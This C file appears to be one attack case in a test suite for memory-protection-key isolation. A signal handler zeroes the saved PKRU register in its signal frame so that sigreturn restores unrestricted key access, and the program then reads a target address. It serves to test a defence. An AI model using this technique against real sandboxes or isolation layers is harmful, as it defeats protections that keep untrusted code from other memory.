/* A signal handler changes the PKRU in its frame, and returns.
 * Defence: sigreturn gives a program its own keys only.  Control: off=sigreturn. */
#include "attack.h"

#define SIGUSR1 10
#define SA_SIGINFO_RESTORER 0x04000004UL
#define PKRU_IN_CONTEXT (40 + 24 * 8)   /* flags, link, stack; then 18 registers, selectors, error, vector, mask, cr2, fpstate */

struct action { void *handler; u64 flags; void *restorer; u64 mask; };

void restorer(void);
asm(".globl restorer\nrestorer: mov $15, %eax; syscall");

static void handler(int signal, void *info, u8 *context) {
    (void)signal, (void)info;
    *(u64 *)(context + PKRU_IN_CONTEXT) = 0;
}

int main(int argc, char **argv) {
    struct action a = {handler, SA_SIGINFO_RESTORER, restorer, 0};

    if (argc < 2)
        return 2;
    syscall(SYS_rt_sigaction, SIGUSR1, &a, 0, 8);
    syscall(SYS_kill, syscall(SYS_getpid), SIGUSR1);
    return plunder(hexadecimal(argv[1]));
}
